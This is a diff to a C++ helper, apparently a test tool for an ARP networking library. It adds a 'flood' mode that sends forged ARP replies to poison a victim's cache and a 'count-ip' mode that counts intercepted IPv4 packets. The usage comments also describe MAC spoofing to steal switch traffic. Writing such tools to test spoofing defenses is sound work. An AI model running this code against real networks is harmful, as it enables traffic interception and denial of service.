@@ -14,6 +14,11 @@
 //       broadcast (a gratuitous reply to everybody), vlan (tagged for VLAN 42), other-host
 //       (sent to another host's Ethernet address), ethernet-source (the frame's source is not
 //       its ARP sender)
+//   tw_arp_attacker <link> flood <claimed-ip> <victim-ip> <victim-mac> <per-second>
+//       prints "ready", then sends forged replies at that rate until SIGTERM or SIGINT
+//   tw_arp_attacker <link> count-ip <destination-ip>
+//       prints "ready", then counts the IPv4 packets for destination-ip that reach this host
+//       (sent to its hardware address) until SIGTERM or SIGINT, and prints "counted N"
 //   tw_arp_attacker <link> steal <victim-mac> <interval-us>
 //       prints "ready", then sends a frame from the victim's Ethernet address every interval
 //       until SIGTERM or SIGINT, so that the switch sends the victim's frames here (port
@@ -23,12 +28,14 @@
 #include "Core_SocketARP/linux/ArpPacket_linux.h"
 
 #include <arpa/inet.h>
+#include <linux/if_ether.h>
 #include <linux/if_packet.h>
 #include <net/if.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <cerrno>
 #include <chrono>
 #include <csignal>
@@ -196,6 +203,66 @@ int main(int argc, char** argv) {
                 socket.Send(packet, index, Core_SocketARP::arp::broadcast_mac);
             }
             std::printf("sent %ld gratuitous\n", count);
+            return 0;
+        }
+        if (mode == "flood" && argc == 7) {
+            Packet packet;
+            packet.operation = Core_SocketARP::arp::operation_reply;
+            packet.senderIp = ParseIp(argv[3]);
+            packet.senderMac = ownMac;
+            packet.targetIp = ParseIp(argv[4]);
+            packet.targetMac = ParseMac(argv[5]);
+            const long perSecond = std::max(1L, ParseCount(argv[6]));
+            const auto interval = std::chrono::nanoseconds(1'000'000'000 / perSecond);
+            PacketSocket socket(index, DropAll());
+            std::signal(SIGTERM, RequestStop);
+            std::signal(SIGINT, RequestStop);
+            std::printf("ready\n");
+            std::fflush(stdout);
+            long sent = 0;
+            auto next = std::chrono::steady_clock::now();
+            while (stop_requested == 0) {
+                socket.Send(packet, index, packet.targetMac);
+                ++sent;
+                next += interval;
+                std::this_thread::sleep_until(next);
+            }
+            std::printf("sent %ld\n", sent);
+            return 0;
+        }
+        if (mode == "count-ip" && argc == 4) {
+            const std::uint32_t destination = ParseIp(argv[3]);
+            const int fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
+            if (fd < 0) {
+                Fail("packet socket: " + std::string(std::strerror(errno)));
+            }
+            sockaddr_ll at{};
+            at.sll_family = AF_PACKET;
+            at.sll_protocol = htons(ETH_P_IP);
+            at.sll_ifindex = index;
+            if (::bind(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0) {
+                Fail("bind: " + std::string(std::strerror(errno)));
+            }
+            const timeval tick{0, 100000};
+            ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
+            std::signal(SIGTERM, RequestStop);
+            std::signal(SIGINT, RequestStop);
+            std::printf("ready\n");
+            std::fflush(stdout);
+            long counted = 0;
+            std::uint8_t packet[2048];
+            while (stop_requested == 0) {
+                sockaddr_ll from{};
+                socklen_t length = sizeof from;
+                const ssize_t size = ::recvfrom(fd, packet, sizeof packet, 0,
+                                                reinterpret_cast<sockaddr*>(&from), &length);
+                std::uint32_t to = 0;
+                if (size >= 20 && from.sll_pkttype == PACKET_HOST) {
+                    std::memcpy(&to, packet + 16, sizeof to);
+                    counted += to == destination ? 1 : 0;
+                }
+            }
+            std::printf("counted %ld\n", counted);
             return 0;
         }
         if (mode == "steal" && argc == 5) {
